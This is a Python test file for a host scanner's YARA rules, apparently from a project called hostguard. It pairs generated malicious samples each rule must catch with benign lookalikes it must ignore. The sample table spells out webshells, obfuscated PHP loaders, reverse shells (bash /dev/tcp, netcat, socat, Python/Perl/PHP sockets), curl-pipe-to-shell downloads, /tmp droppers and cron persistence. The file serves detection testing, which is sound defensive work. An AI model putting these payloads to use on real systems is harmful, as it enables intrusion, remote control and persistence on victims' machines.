"""hostguard's own YARA rules: every rule matches its generated hits and stays quiet on its near misses.

The tables name, for every rule, files it must match (``HITS``) and files that look alike but are fine
(``MISSES``, each with the reason). A meta-test fails when a rule in ``data/rules`` has no hit or no near miss,
lacks a meta field or shares its name. Each case runs once in its minimal form and then with hypothesis varying
what an attacker varies (names, white space, case, quotes, addresses). Tests assert which rule matched.
"""

from __future__ import annotations

import re
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
import yara_x
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hostguard.scanner import rules
from tests.scanner.samples import Case, DrawnGen, Gen, blob, chr_chain, elf, hex_escaped, split_name, upx_elf

RULES_DIR = Path(rules.__file__).resolve().parent.parent / "data" / "rules"
FAMILIES = {"webshell", "loader", "reverse_shell", "dropper", "persistence", "miner", "rootkit", "bot", "packer",
            "web_executable"}
OWN_SEVERITIES = {"critical", "high", "medium", "low"}


def _php(body: str) -> str:
    return f"<?php\n{body}\n?>\n"


HITS: list[Case] = [
    # --- webshells.yar
    Case("php_webshell_eval_request",
         lambda g: _php(f"@{g.word('eval')}{g.ws()}({g.ws()}$_POST[{g.q()}{g.var()}{g.q()}]);")),
    Case("php_webshell_eval_request",
         lambda g: _php(f"{g.word('assert')}({g.word('base64_decode')}({g.ws()}$_COOKIE[{g.q()}{g.var()}{g.q()}]));"),
         also=frozenset({"php_loader_eval_decoded"})),
    Case("php_webshell_command_request",
         lambda g: _php(f"{g.word(g.pick(['system', 'passthru', 'shell_exec', 'popen']))}{g.ws()}({g.ws()}"
                        f"$_GET[{g.q()}{g.var()}{g.q()}]);")),
    Case("php_webshell_command_request",
         lambda g: _php(f"{g.word('echo')}{g.sp()}`$_REQUEST[{g.q()}{g.var()}{g.q()}]`;")),
    Case("php_webshell_uploader",
         lambda g: _php(f"{g.word('move_uploaded_file')}($_FILES[{g.q()}{g.var()}{g.q()}]['tmp_name'],{g.ws()}"
                        f"$_FILES['f']['name']);")),
    Case("php_webshell_uploader",
         lambda g: _php(f"{g.word('file_put_contents')}($_POST[{g.q()}{g.var()}{g.q()}],{g.ws()}"
                        f"base64_decode($_POST['c']));")),
    Case("jsp_webshell_exec_request",
         lambda g: (lambda v: f'<%@ page import="java.io.*" %>\n<% String {v} = request.getParameter("c");\n'
                              f"Process p = Runtime.getRuntime(){g.ws()}.exec({v}); %>\n")(g.var()),
         extension="jsp"),
    Case("jsp_webshell_exec_request",
         lambda g: '<jsp:root version="2.0"><jsp:scriptlet>\n'
                   f'new ProcessBuilder(new String[]{{"/bin/sh", "-c", request.getParameter("{g.var()}")}}).start();\n'
                   "</jsp:scriptlet></jsp:root>\n",
         extension="jspx"),
    Case("jsp_webshell_class_loader",
         lambda g: (lambda c: f"<%! class {c} extends ClassLoader {{ {c}(ClassLoader p) {{ super(p); }}\n"
                              "  Class<?> g(byte[] b) { return super.defineClass(b, 0, b.length); } } %>\n"
                              "<% byte[] d = java.util.Base64.getDecoder().decode(request.getReader().readLine());\n"
                              f"new {c}(getClass().getClassLoader()).g(d).newInstance(); %>\n")("L" + g.var()),
         extension="jsp"),
    Case("asp_webshell_eval_request",
         lambda g: f'<%@ Page Language="Jscript" %>\n<% {g.word("eval")}({g.ws()}Request.Item["{g.var()}"], "unsafe"); %>\n',
         extension="aspx"),
    Case("asp_webshell_eval_request",
         lambda g: f'<%\n{g.word(g.pick(["execute", "executeglobal"]))} request("{g.var()}")\n%>\n', extension="asp"),
    Case("aspx_webshell_process_request",
         lambda g: '<%@ Page Language="C#" %>\n<%\nvar psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", '
                   f'"/c " + Request.Form["{g.var()}"]);\nSystem.Diagnostics.Process.Start(psi);\n%>\n',
         extension="aspx"),
    Case("python_webshell_exec_request",
         lambda g: "from flask import Flask, request\nimport os\napp = Flask(__name__)\n@app.route('/s')\ndef s():\n"
                   f"    return os.popen({g.ws()}request.args.get({g.q()}{g.var()}{g.q()})).read()\n",
         extension="py"),
    Case("python_webshell_exec_request",
         lambda g: (lambda v: f"#!/usr/bin/python3\nimport cgi, subprocess\n{v} = cgi.FieldStorage()\n"
                              f"print(subprocess.getoutput({v}.getvalue('c')))\n")(g.var()),
         extension="py"),
    Case("perl_webshell_exec_request",
         lambda g: (lambda v: f"use CGI;\nmy ${v} = CGI->new;\nprint ${v}->header;\n"
                              f"system({g.ws()}${v}->param({g.q()}c{g.q()}));\n")(g.var()),
         extension="pl"),
    Case("perl_webshell_exec_request",
         lambda g: f"use CGI qw(:standard);\nprint header;\nprint `param('{g.var()}')`;\n", extension="cgi"),
    # --- loaders.yar
    Case("php_loader_eval_decoded",
         lambda g: _php(f"{g.word('eval')}({g.ws()}{g.word('gzinflate')}({g.word('base64_decode')}("
                        f"{g.q()}{blob(g, 40)}{g.q()})));")),
    Case("php_loader_eval_decoded",
         lambda g: _php(f"${g.var()} = {g.word('create_function')}('', {g.word('str_rot13')}('riny($_CBFG[k]);'));")),
    Case("php_loader_request_as_function",
         lambda g: _php(f"@$_GET[{g.q()}{g.var()}{g.q()}]{g.ws()}($_GET[{g.q()}x{g.q()}]);")),
    Case("php_loader_request_as_function",
         lambda g: _php(f"{g.word(g.pick(['call_user_func', 'array_map']))}($_REQUEST[{g.q()}{g.var()}{g.q()}], "
                        "$_REQUEST['a']);")),
    Case("php_loader_request_as_function",
         lambda g: _php(f"{g.word('array_filter')}([$_POST['a']], $_POST[{g.q()}{g.var()}{g.q()}]);")),
    Case("php_loader_hidden_function_name",
         lambda g: (lambda v, n: _php(f"${v} = {n};\n${v}($_POST['x']);"))(
             g.var(), split_name(g, g.pick(["eval", "assert", "system", "base64_decode", "gzinflate", "shell_exec"])))),
    Case("php_loader_hidden_function_name",
         lambda g: _php(f"${g.var()} = {g.word('strrev')}({g.q()}{g.pick(['tressa', 'lave', 'edoced_46esab'])}"
                        f"{g.q()});")),
    Case("php_loader_hidden_function_name",
         lambda g: _php(f'${g.var()} = "{hex_escaped(g, g.pick(["eval", "assert", "base64_", "system", "gzinf"]))}";')),
    Case("php_loader_hidden_function_name",
         lambda g: _php(f'${g.var()} = "\\145\\166\\141\\154";')),
    Case("php_loader_preg_replace_eval",
         lambda g: _php(f"{g.word('preg_replace')}({g.q()}/.*/e{g.q()},{g.ws()}$_POST[{g.q()}{g.var()}{g.q()}], '');")),
    Case("php_loader_preg_replace_eval",
         lambda g: _php(f"{g.word('preg_replace')}(\"#x#{g.pick(['e', 'ie', 'se'])}\", "
                        f"base64_decode('{blob(g, 24)}'), 'x');")),
    Case("php_loader_chr_chain",
         lambda g: (lambda v: _php(f"${v} = {chr_chain(g, g.pick(['base64_decode', 'gzinflate', 'system']))};\n"
                                   f"{g.word('eval')}(${v}($_POST['p']));"))(g.var())),
    Case("php_loader_nested_decode_blob",
         lambda g: (lambda v, f: _php(f"${v} = {g.word('gzinflate')}({g.word('base64_decode')}('{blob(g, 240)}'));\n"
                                      f"${f} = 'run';\n${f}(${v});"))(g.var(), "f" + g.var())),
    Case("php_loader_nested_decode_blob",
         lambda g: (lambda v: _php(f"${v} = {g.word('str_rot13')}({g.word('base64_decode')}($d));\n"
                                   f"@{g.word('eval')}(${v});"))(g.var())),
    # --- shells.yar
    Case("shell_reverse_dev_tcp",
         lambda g: f"#!/bin/bash\n{g.pick(['bash', 'sh'])} -i >&{g.sp()}/dev/tcp/{g.ip()}/{g.port()} 0>&1\n",
         extension="sh"),
    Case("shell_reverse_dev_tcp",
         lambda g: f"#!/bin/bash\n0<&196;exec 196<>/dev/tcp/{g.ip()}/{g.port()}; sh <&196 >&196 2>&196\n",
         extension="sh"),
    Case("shell_reverse_dev_tcp",
         lambda g: f"exec 5<>/dev/tcp/{g.ip()}/{g.port()}\n{g.pick(['sh', 'bash', '/bin/bash'])} -i <&5 >&5 2>&5\n",
         extension=""),
    Case("shell_reverse_netcat",
         lambda g: f"#!/bin/sh\n{g.pick(['nc', 'ncat', 'nc.traditional'])} {g.pick(['-e', '-nve', '-c'])} "
                   f"{g.pick(['/bin/sh', '/bin/bash', 'sh'])} {g.ip()} {g.port()}\n",
         extension="sh"),
    Case("shell_reverse_netcat",
         lambda g: f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {g.ip()} {g.port()} > /tmp/f\n",
         extension="sh"),
    Case("shell_reverse_netcat",
         lambda g: f"socat exec:'bash -li',pty,stderr,setsid tcp:{g.ip()}:{g.port()}\n", extension="sh"),
    Case("shell_reverse_python_socket",
         lambda g: (lambda s: f"import socket,subprocess,os\n{s}=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
                              f"{s}.connect(({g.q()}{g.ip()}{g.q()},{g.port()}))\n"
                              f"os.dup2({s}.fileno(),0); os.dup2({s}.fileno(),1); os.dup2({s}.fileno(),2)\n"
                              + g.pick(['pty.spawn("/bin/bash")', 'subprocess.call(["/bin/sh","-i"])']) + "\n")(
             g.var()),
         extension="py"),
    Case("shell_reverse_perl_socket",
         lambda g: f'use Socket;$i="{g.ip()}";$p={g.port()};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));\n'
                   'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
                   f'open(STDERR,">&S");exec("{g.pick(["/bin/sh -i", "/bin/bash -i", "sh"])}");}};\n',
         extension="pl"),
    Case("shell_reverse_php_socket",
         lambda g: _php(f"${g.var()} = {g.word('fsockopen')}({g.q()}{g.ip()}{g.q()}, {g.port()});\n"
                        f"{g.word(g.pick(['exec', 'shell_exec', 'system']))}('/bin/sh -i <&3 >&3 2>&3');")),
    Case("shell_reverse_php_socket",
         lambda g: _php(f"$s = {g.word('stream_socket_client')}('tcp://{g.ip()}:{g.port()}');\n"
                        "$p = proc_open('/bin/sh', array(0 => $s, 1 => $s, 2 => $s), $pipes);")),
    Case("shell_download_pipe_shell",
         lambda g: f"#!/bin/sh\n{g.pick(['curl -fsSL', 'wget -qO-', 'curl -s'])} http://{g.ip()}/i.sh |"
                   f"{g.sp()}{g.pick(['sh', 'bash', 'sudo bash', '/bin/sh'])}\n",
         extension=""),
    Case("shell_download_pipe_shell",
         lambda g: f"cd /opt\n  wget -q -O - http://{g.ip()}:{g.port()}/x | bash -s\n", extension="sh"),
    Case("shell_dropper_tmp_exec",
         lambda g: (lambda d: f"#!/bin/sh\nwget -q http://{g.ip()}/{g.var()} -O {d}/.{g.var()}\n"
                              f"chmod {g.pick(['+x', '777', '755', 'u+x', 'a+rx'])} {d}/.{g.var()}\n")(
             g.pick(["/tmp", "/dev/shm", "/var/tmp"])),
         extension="sh"),
    Case("shell_dropper_tmp_exec",
         lambda g: f"curl -s -o /dev/shm/k http://{g.ip()}/k && chmod +x /dev/shm/k && /dev/shm/k\n", extension="sh"),
    Case("shell_cron_persistence",
         lambda g: f'(crontab -l 2>/dev/null; echo "*/{g.number(1, 59)} * * * * curl -fsSL http://{g.ip()}/s.sh | sh")'
                   " | crontab -\n",
         extension=""),
    Case("shell_cron_persistence",
         lambda g: "echo \"@reboot root python3 -c 'import socket; s=socket.create_connection((\\\"" + g.ip()
                   + "\\\", " + g.port() + "))'\" > /etc/cron.d/" + g.var() + "\n",
         extension="sh"),
    # --- elf.yar
    Case("elf_miner_stratum",
         lambda g: elf(b"usage: x [options]", f"stratum+{g.pick(['tcp', 'ssl', 'TCP'])}://{g.var()}.test:3333".encode()),
         extension=""),
    Case("elf_miner_xmrig",
         lambda g: elf(b"--donate-level=N", b"cryptonight/r", b"rx/0 randomx", b"rig-id", b'"pools"'), extension=""),
    Case("miner_pool_config",
         lambda g: '{\n  "autosave": true,\n  "pools": [\n    {\n      "url": "' + g.pick(["", "stratum+tcp://"])
                   + f'pool.{g.var().replace("_", "")}x.test:{g.number(1000, 9999)}",\n      "user": "4'
                   + blob(g, 94).replace("+", "a").replace("/", "b") + '",\n      "pass": "x",\n'
                   + '      "algo": "rx/0"\n    }\n  ]\n}\n',
         extension="json", also=frozenset()),
    Case("elf_preload_writer",
         lambda g: elf(b"/etc/ld.so.preload", g.pick([b"chattr +i ", b"chattr -i "]), b"/proc/net/tcp",
                       b"/dev/shm/.x.so"), extension=""),
    Case("elf_preload_writer",
         lambda g: elf(b"echo /usr/lib/libx.so > /etc/ld.so.preload", b"/etc/ld.so.preload", b"/var/spool/cron/root"),
         extension=""),
    Case("elf_process_hiding",
         lambda g: elf(b"readdir", b"readdir64", b"dlsym", b"/proc/%d/cmdline",
                       g.pick([b"/etc/ld.so.preload", b"hide_proc", b"HIDDEN_PREFIX"])), extension="so"),
    Case("elf_irc_bot",
         lambda g: elf(b"NICK %s\r\n", b"USER %s 0 0 :%s\r\n", b"JOIN %s :%s\r\n", b"PRIVMSG %s :done\r\n",
                       g.pick([b"UDPFLOOD", b"syn flood", b"KILLATTK"])), extension=""),
    Case("elf_ddos_bot",
         lambda g: elf(b"udpflood", b"SYN-FLOOD", b"httpflood", g.pick([b"KILLATTK", b"GETSPOOFS",
                                                                        b"/bin/busybox ECCHI"])), extension=""),
    Case("elf_upx_packed", lambda g: upx_elf(), extension=""),
    # --- web_executables.yar
    Case("web_root_elf", lambda g: elf(b"main", b"libc.so.6"), extension="", in_web_root=True),
    Case("web_root_elf", lambda g: elf(b"x"), extension="jpg", in_web_root=True),
    Case("web_root_shebang_script",
         lambda g: f"#!{g.pick(['/bin/sh', '/bin/bash', '/usr/bin/env python3', '/usr/bin/perl -w'])}\necho hi\n",
         extension="sh", in_web_root=True),
    Case("web_root_shebang_script", lambda g: "#! /usr/bin/env bash\nid\n", extension="", in_web_root=True),
    Case("web_php_in_image",
         lambda g: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 40
                   + f"<?php {g.word('include')} $_FILES['f']['tmp_name']; ?>".encode() + b"\xff\xd9",
         extension="jpg", in_web_root=True),
    Case("web_php_in_image",
         lambda g: f"GIF89a\n<?{g.pick(['php', 'PHP', '='])} {g.word('system')}($_GET['c']); ?>\n",
         extension="gif", in_web_root=True,
         also=frozenset({"php_webshell_command_request"})),
    Case("web_htaccess_runs_images",
         lambda g: f"{g.pick(['AddType', 'AddHandler'])} application/x-httpd-php .php {g.pick(['.jpg', '.png', '.gif'])}\n",
         extension="", file_name=".htaccess", in_web_root=True),
    Case("web_htaccess_runs_images",
         lambda g: '<FilesMatch "\\.(jpe?g|png)$">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n',
         extension="", file_name=".htaccess", in_web_root=True),
]

FILLER = "<p>" + "Status of this server, refreshed every minute. " * 12 + "</p>\n"

MISSES: list[Case] = [
    # --- webshells.yar
    Case("php_webshell_eval_request",
         lambda g: _php(f"${g.var()} = load_template();\n{g.word('eval')}('?>' . $template);\n"
                        "echo htmlspecialchars($_GET['q']);"),
         why="eval of a template the application loaded; the request value is only printed, escaped"),
    Case("php_webshell_command_request",
         lambda g: _php(f"/** Reads `$_POST['action']` and runs `uptime`. */\n"
                        f"${g.var()} = {g.word('exec')}('ping -c1 ' . escapeshellarg($_GET['host']));"),
         why="a fixed command with the request value escaped as one argument; backticks only in a doc comment"),
    Case("php_webshell_uploader",
         lambda g: _php("move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . "
                        "sanitize_file_name(basename($_FILES['f']['name'])));"),
         why="the upload goes to the application's directory under a sanitized name"),
    Case("jsp_webshell_exec_request",
         lambda g: '<% Process p = Runtime.getRuntime().exec("/usr/bin/uptime"); %>\n' + FILLER * 2
                   + '<p>Hello <%= request.getParameter("name") %></p>\n',
         extension="jsp", why="a fixed command; the request parameter is printed far away, never run"),
    Case("jsp_webshell_class_loader",
         lambda g: "public class PluginLoader extends ClassLoader {\n"
                   "  Class<?> load(byte[] b) { return defineClass(null, b, 0, b.length); }\n"
                   "  byte[] read(java.io.InputStream in) {\n"
                   "    return java.util.Base64.getDecoder().decode(in.readAllBytes()); }\n}\n",
         extension="java", why="a Java source file (no JSP page) that loads plugin classes, not request bytes"),
    Case("jsp_webshell_class_loader",
         lambda g: '<% String d = new String(java.util.Base64.getDecoder().decode(request.getParameter("m"))); %>\n'
                   "<p><%= d %></p>\n",
         extension="jsp", why="decodes a request parameter to show it; nothing becomes a class"),
    Case("asp_webshell_eval_request",
         lambda g: '<%@ Page Language="C#" %>\n<%# Eval("Title") %>\n'
                   '<% Response.Write(Server.HTMLEncode(Request.QueryString("q"))) %>\n',
         extension="aspx", why="data-binding Eval of a field name; the request value is only written, encoded"),
    Case("aspx_webshell_process_request",
         lambda g: '<%@ Page Language="C#" %>\n<% System.Diagnostics.Process.Start("cmd.exe", "/c ipconfig"); %>\n'
                   + FILLER * 2 + '<% var n = Request.Form["name"]; %>\n',
         extension="aspx", why="a fixed command; the form field is read far away for something else"),
    Case("python_webshell_exec_request",
         lambda g: "import subprocess\nfrom flask import request\n"
                   "def log():\n    return subprocess.run(['git', 'log', '--', request.args.get('path')]).stdout\n",
         extension="py", why="an argument list to a fixed program, no shell and no eval"),
    Case("python_webshell_exec_request",
         lambda g: (lambda v: f"import io\n{v} = io.StringIO()\ngenerate(grammar, {v})\nns = {{}}\n"
                              f"exec({v}.getvalue(), ns)\n")(g.var()),
         extension="py", why="code the program generated itself, read back from a StringIO (CPython's test_pegen)"),
    Case("perl_webshell_exec_request",
         lambda g: "my $host = $q->param('host');\ndie unless $host =~ /^[\\w.-]+$/;\nsystem('ping', '-c1', $host);\n",
         extension="pl", why="the parameter is validated and passed as one argument to a fixed program"),
    # --- loaders.yar
    Case("php_loader_eval_decoded",
         lambda g: _php(f"${g.var()} = {g.word('base64_decode')}("
                        "'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk');\n"
                        "header('Content-Type: image/png');\necho $png;\n$data = json_decode(base64_decode($token), true);"),
         why="decodes an embedded image and a token as data; nothing decoded is run"),
    Case("php_loader_request_as_function",
         lambda g: _php("if (isset($_GET['page'])) { show($_GET['page']); }\n$ids = array_filter($_POST['selected']);\n"
                        "call_user_func($handlers[$_GET['tab']] ?? 'home');"),
         why="request values as data and as a key into the application's own handler table"),
    Case("php_loader_hidden_function_name",
         lambda g: _php(f"${g.var()} = 'Evaluation' . ' period';\n$m = {g.q()}eval{g.q()};\n$s = 'system' . '_info';\n"
                        "$e = 'ev' . 'ent';\nlog_msg(\"eval is disabled\");"),
         why="whole names in strings and concatenations that do not spell a code-running function"),
    Case("php_loader_preg_replace_eval",
         lambda g: _php(f"${g.var()} = {g.word('preg_replace')}('/\\s+/', ' ', $_POST['name']);\n"
                        "$t = preg_replace('/[^a-z]/i', 'e', $_GET['q']);"),
         why="preg_replace over request data without the /e modifier"),
    Case("php_loader_chr_chain",
         lambda g: _php(f"${g.var()} = {chr_chain(g, 'PK' + chr(3) + chr(4) + chr(20))};\n$eol = chr(13) . chr(10);\n"
                        "fwrite($zip, $header);"),
         why="chr() chains that build binary headers, with nothing run"),
    Case("php_loader_nested_decode_blob",
         lambda g: _php(f"${g.var()} = gzuncompress(base64_decode('{blob(g, 300)}'));\nfile_put_contents($cache, $font);"),
         why="a compressed font unpacked and stored, as PDF libraries do; nothing decoded is run"),
    # --- shells.yar
    Case("shell_reverse_dev_tcp",
         lambda g: f"#!/bin/bash\nif timeout 1 bash -c \"echo > /dev/tcp/127.0.0.1/{g.port()}\"; then echo up; fi\n",
         extension="sh", why="a port health check: nothing is redirected into a shell"),
    Case("shell_reverse_dev_tcp",
         lambda g: "#!/bin/bash\nexec 3<>/dev/tcp/example.test/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\n",
         extension="sh", why="an HTTP request over /dev/tcp, read by cat, no shell reading the socket"),
    Case("shell_reverse_netcat",
         lambda g: f"#!/bin/sh\nnc -z -w 2 db.test {g.port()} || echo 'database down'\n"
                   "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80\n",
         extension="sh", why="netcat probing a port and socat forwarding one, no shell attached"),
    Case("shell_reverse_python_socket",
         lambda g: "import os, socket\ns = socket.socket()\ns.connect(('log.test', 514))\n"
                   "devnull = open(os.devnull)\nos.dup2(devnull.fileno(), 0)\nos.execv('/usr/sbin/worker', ['worker'])\n",
         extension="py", why="a daemon that detaches its stdin and runs its worker, no shell"),
    Case("shell_reverse_perl_socket",
         lambda g: "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'log.test:514');\n"
                   "open(STDIN, '</dev/null');\nopen(STDOUT, '>&LOG');\nexec('/usr/sbin/worker');\n",
         extension="pl", why="a daemon redirecting its own output to a log and running its worker"),
    Case("shell_reverse_php_socket",
         lambda g: _php("$smtp = fsockopen('mail.example.test', 25);\nfwrite($smtp, \"HELO x\\r\\n\");\n"
                        "$h = popen('/usr/sbin/sendmail -t', 'w');"),
         why="an SMTP client and a sendmail pipe, as mailers do"),
    Case("shell_download_pipe_shell",
         lambda g: "#!/bin/sh\n# curl -fsSL https://get.example.test | sh\n"
                   "curl -fsSL -o /usr/local/src/app.tar.gz https://example.test/app.tar.gz\n",
         extension="sh", why="the pipe is commented out; the download is saved, not run"),
    Case("shell_download_pipe_shell",
         lambda g: "## Install\n\n    curl -fsSL https://example.test/install.sh | sh\n",
         extension="md", why="installation instructions in a README, not a script"),
    Case("shell_dropper_tmp_exec",
         lambda g: "#!/bin/sh\ncurl -o /tmp/report.csv https://example.test/r.csv\nchmod 644 /tmp/report.csv\n"
                   "curl -o /usr/local/bin/tool https://example.test/tool && chmod +x /usr/local/bin/tool\n",
         extension="sh", why="the file in /tmp is not made executable; the executable one is installed outside /tmp"),
    Case("shell_cron_persistence",
         lambda g: "#!/bin/sh\n(crontab -l; echo \"0 3 * * * /usr/local/bin/backup.sh\") | crontab -\n"
                   "echo \"*/5 * * * * curl -fsS -m 10 https://hc.example.test/ping/abc\" | crontab -\n",
         extension="sh", why="a backup job and a health-check ping: nothing downloaded is run, nothing connects back"),
    # --- elf.yar
    Case("elf_miner_stratum", lambda g: "Connect with stratum+tcp://pool.example.test:3333\n",
         extension="md", why="a mining pool address in a text file, not in a program"),
    Case("elf_miner_stratum", lambda g: elf(b"stratum %d", b"server %s stratum 2"), extension="",
         why="NTP's stratum, no pool URL"),
    Case("elf_miner_xmrig", lambda g: elf(b"randomx", b'"pools"', b"cryptography"), extension="",
         why="two loose words no miner's full configuration vocabulary"),
    Case("miner_pool_config",
         lambda g: '{"pools": [{"url": "backend.example.test:8080", "user": "admin", "weight": 3}]}\n',
         extension="json", why="a load balancer's pool list: a short user and no mining algorithm"),
    Case("elf_preload_writer", lambda g: elf(b"/etc/ld.so.preload", b"/etc/ld.so.cache", b"/proc/self/exe"),
         extension="", why="the dynamic loader reads the preload file; nothing hides or persists"),
    Case("elf_process_hiding", lambda g: elf(b"readdir", b"readdir64", b"dlsym", b"/proc/self/fd"), extension="so",
         why="a library wrapping directory calls (as fakeroot does) without preload or hiding names"),
    Case("elf_irc_bot",
         lambda g: elf(b"NICK %s", b"JOIN %s", b"PRIVMSG %s :%s", b"CTCP flood detected", b"flood_protect"),
         extension="", why="an IRC client with flood protection, no attack commands"),
    Case("elf_ddos_bot",
         lambda g: elf(b"SYN flood protection", b"UDP flood limit", b"ICMP flood"), extension="",
         why="a firewall naming the floods it stops, with no attack control command"),
    Case("elf_upx_packed", lambda g: elf(b"x" * 2000, b"UPX! compressed", b"UPX!"), extension="so",
         why="a magic database that mentions UPX far from the header"),
    # --- web_executables.yar
    Case("web_root_elf", lambda g: elf(b"main"), extension="", in_web_root=False,
         why="a program outside any web root"),
    Case("web_root_elf", lambda g: b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, extension="png", in_web_root=True,
         why="an image in a web root"),
    Case("web_root_shebang_script", lambda g: "#!/usr/bin/perl\nprint \"Content-Type: text/plain\\n\\n\";\n",
         extension="cgi", in_web_root=True, why="a CGI script, the one kind of script a web root is meant to run"),
    Case("web_root_shebang_script", lambda g: "#!/usr/bin/env php\n<?php require 'vendor/autoload.php';\n",
         extension="", in_web_root=True, why="a PHP command-line tool, PHP being what the web root runs anyway"),
    Case("web_root_shebang_script", lambda g: "#!/bin/sh\necho hi\n", extension="sh", in_web_root=False,
         why="a shell script outside any web root"),
    Case("web_php_in_image", lambda g: _php("include 'config.php';\necho $_GET['q'];"), extension="php",
         in_web_root=True, why="PHP in a .php file is PHP, not a disguise"),
    Case("web_php_in_image", lambda g: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)) * 4 + b"\xff\xd9",
         extension="jpg", in_web_root=True, why="an image with no PHP inside"),
    Case("web_htaccess_runs_images",
         lambda g: "AddType application/x-httpd-php .php .phtml\n<FilesMatch \"\\.(jpg|png)$\">\n"
                   "  Header set Cache-Control \"max-age=86400\"\n</FilesMatch>\n",
         extension="", file_name=".htaccess", in_web_root=True, why="PHP for .php files; images only get a cache header"),
    Case("web_htaccess_runs_images", lambda g: "AddType application/x-httpd-php .jpg\n", extension="txt",
         file_name="notes.txt", why="the line quoted in a text file, which the web server does not read as configuration"),
]


@pytest.fixture(scope="module")
def compiled() -> yara_x.Rules:
    return rules.compile_sources(rules.own_sources())


def matched(compiled_rules: yara_x.Rules, case: Case, gen: Gen) -> tuple[set[str], bytes]:
    """The rules (of our namespace) that match the case's file, and the file."""
    data = case.data(gen)
    scanner = yara_x.Scanner(compiled_rules)
    scanner.set_global("file_name", case.name())
    scanner.set_global("extension", case.extension)
    scanner.set_global("in_web_root", case.in_web_root)
    return {m.identifier for m in scanner.scan(data).matching_rules}, data


def _ids(cases: list[Case]) -> list[str]:
    seen: Counter[str] = Counter()
    out = []
    for case in cases:
        seen[case.rule] += 1
        out.append(f"{case.rule}-{seen[case.rule]}")
    return out


def _assert_hit(compiled_rules: yara_x.Rules, case: Case, gen: Gen) -> None:
    found, data = matched(compiled_rules, case, gen)
    assert case.rule in found, f"{case.rule} missed:\n{data[:600]!r}"
    assert found <= {case.rule} | case.also, f"unexpected rules {found - {case.rule} - case.also}:\n{data[:600]!r}"


def _assert_miss(compiled_rules: yara_x.Rules, case: Case, gen: Gen) -> None:
    found, data = matched(compiled_rules, case, gen)
    assert found == set(), f"near miss of {case.rule} matched {found} ({case.why}):\n{data[:600]!r}"


@pytest.mark.parametrize("case", HITS, ids=_ids(HITS))
def test_hit_minimal(compiled: yara_x.Rules, case: Case) -> None:
    _assert_hit(compiled, case, Gen())


@pytest.mark.parametrize("case", MISSES, ids=_ids(MISSES))
def test_miss_minimal(compiled: yara_x.Rules, case: Case) -> None:
    _assert_miss(compiled, case, Gen())


VARIANTS = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@pytest.mark.parametrize("case", HITS, ids=_ids(HITS))
@VARIANTS
@given(data=st.data())
def test_hit_variants(compiled: yara_x.Rules, case: Case, data: st.DataObject) -> None:
    _assert_hit(compiled, case, DrawnGen(data))


@pytest.mark.parametrize("case", MISSES, ids=_ids(MISSES))
@VARIANTS
@given(data=st.data())
def test_miss_variants(compiled: yara_x.Rules, case: Case, data: st.DataObject) -> None:
    _assert_miss(compiled, case, DrawnGen(data))


# --- meta-tests: the rule files themselves


def _all_rules(compiled_rules: yara_x.Rules) -> dict[str, dict[str, Any]]:
    return {rule.identifier: dict(rule.metadata) for rule in compiled_rules}


def test_every_rule_has_a_hit_and_a_near_miss(compiled: yara_x.Rules) -> None:
    names = set(_all_rules(compiled))
    hit = {c.rule for c in HITS}
    miss = {c.rule for c in MISSES}
    assert names - hit == set(), "rules without a hit case in HITS"
    assert names - miss == set(), "rules without a near miss in MISSES"
    assert (hit | miss) - names == set(), "cases naming a rule that does not exist"
    assert all(c.why for c in MISSES), "every near miss says why it is fine"
    assert all(c.also <= names for c in HITS)


def test_every_rule_has_valid_meta(compiled: yara_x.Rules) -> None:
    for name, meta in _all_rules(compiled).items():
        assert meta.get("severity") in OWN_SEVERITIES, name
        assert meta.get("family") in FAMILIES, name
        description = meta.get("description")
        assert isinstance(description, str) and 20 <= len(description) <= 200, name
        assert description[0].isupper() and "\n" not in description and not description.endswith("."), name
        assert rules.severity_of(meta.items(), rules.OWN_NAMESPACE) == meta["severity"]


def test_rule_names_are_unique_across_files() -> None:
    names = [m.group(1) for source in rules.own_sources()
             for m in re.finditer(r"^\s*(?:private\s+|global\s+)*rule\s+(\w+)", source.text, re.M)]
    assert [n for n, count in Counter(names).items() if count > 1] == []
    assert "php_webshell_eval_request" in names  # another family's tests name it


def test_every_rule_file_compiles_without_warnings() -> None:
    sources = rules.own_sources()
    assert {Path(s.origin).name for s in sources} >= {"webshells.yar", "loaders.yar", "shells.yar", "elf.yar",
                                                      "web_executables.yar"}
    for source in [*([s] for s in sources), sources]:
        compiler = yara_x.Compiler()
        for name, value in rules.GLOBALS.items():
            compiler.define_global(name, value)
        for one in source:
            compiler.new_namespace(one.namespace)
            compiler.add_source(one.text, origin=one.origin)
        assert [w["text"] for w in compiler.warnings()] == []
        compiler.build()


def test_load_with_a_cache_gives_the_same_digest_and_works_from_it(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    first = rules.load(cache_dir=str(tmp_path))
    assert len(list(tmp_path.glob("rules-*.yarc"))) == 1

    def no_compiling(sources: object) -> yara_x.Rules:
        raise AssertionError("compiled again although the cache holds these rules")

    monkeypatch.setattr(rules, "compile_sources", no_compiling)
    second = rules.load(cache_dir=str(tmp_path))
    assert second.digest == first.digest == rules.digest(rules.own_sources())
    assert second.sources == first.sources
    case = HITS[0]
    assert matched(second.rules, case, Gen())[0] == {case.rule}
